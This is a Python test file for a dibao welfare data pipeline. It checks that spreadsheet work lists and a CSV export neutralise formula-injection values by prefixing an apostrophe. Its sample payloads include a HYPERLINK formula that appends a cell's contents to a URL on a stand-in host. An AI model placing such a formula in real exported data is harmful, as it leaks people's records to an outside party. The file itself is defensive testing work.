"""Formula injection (issue 13 item 8): a value beginning with = + - @ (or tab / CR) reaches a spreadsheet as text.

The one ``neutralise`` (dibao/publish/formulas.py) is what the XLSX work lists write; the CSV export of the API is
tested in tests/test_candidates_csv.py with the same function.
"""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import fastexcel
import polars as pl
from hypothesis import given
from hypothesis import strategies as st

from dibao.publish.contract import DIFF_SCHEMA, EXIT_SCHEMA, FLAG_SCHEMA, INCLUSION_SCHEMA
from dibao.publish.formulas import FORMULA_STARTS, neutralise
from dibao.publish.worklists import write_worklists

RUN = dt.date(2026, 11, 20)
PAYLOADS = ['=HYPERLINK("http://example.com/?"&E2,"详情")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@given(st.text())
def test_neutralised_text_never_starts_a_formula_and_keeps_the_value(text: str) -> None:
    safe = neutralise(text)
    assert not safe.startswith(FORMULA_STARTS)
    assert safe in (text, "'" + text)  # the value itself is kept, at most marked as text
    assert neutralise(safe) == safe  # idempotent: an already marked value is not marked twice


def test_ordinary_text_is_unchanged() -> None:
    for text in ("张伟", "340402198001011234", "DB0001", "家庭月人均收入 812.50 元", "'quoted", " =x", ""):
        assert neutralise(text) == text


def _row(schema: dict[str, pl.DataType], **values: object) -> pl.DataFrame:
    return pl.DataFrame([{name: values.get(name) for name in schema}], schema=schema)


def test_work_list_cells_that_look_like_formulas_are_text_with_an_apostrophe(tmp_path: Path) -> None:
    """Names, villages and details are copied from the drop: a hostile value must not become a live formula
    when a clerk edits the cell (Excel re-reads an edited '=…' string as a formula)."""
    head, village, detail, town = PAYLOADS[0], PAYLOADS[1], PAYLOADS[3], PAYLOADS[2]
    exits = _row(EXIT_SCHEMA, dibao_household_id="DB0001", county_code="340402", town=town, village=village,
                 head_name=head, head_id="340402198001011234", reasons=["income_above_standard"],
                 reason_labels=["收入超过低保标准"], detail=detail, first_seen=RUN)
    empty = {name: pl.DataFrame(schema=schema) for name, schema in
             (("inclusion", INCLUSION_SCHEMA), ("flag", FLAG_SCHEMA), ("diff", DIFF_SCHEMA))}
    counties = pl.DataFrame({"county_code": ["340402"], "county_name": ["=大通区"]})
    paths = write_worklists(tmp_path, RUN, exits, empty["inclusion"], empty["flag"], empty["diff"], counties)
    county_book = next(p for p in paths if p.name.startswith("340402"))
    sheet = fastexcel.read_excel(county_book).load_sheet("应退尽退").to_polars()
    row = sheet.row(0, named=True)
    assert row["户主姓名"] == "'" + head and row["行政村"] == "'" + village
    assert row["核查依据与数据"] == "'" + detail and row["乡镇"] == "'" + town
    assert row["户主证件号码"] == "340402198001011234"  # an ordinary value is untouched
    summary = fastexcel.read_excel(tmp_path / "worklists" / "全省汇总.xlsx").load_sheet(0).to_polars()
    assert summary["县名"][0] == "'=大通区"
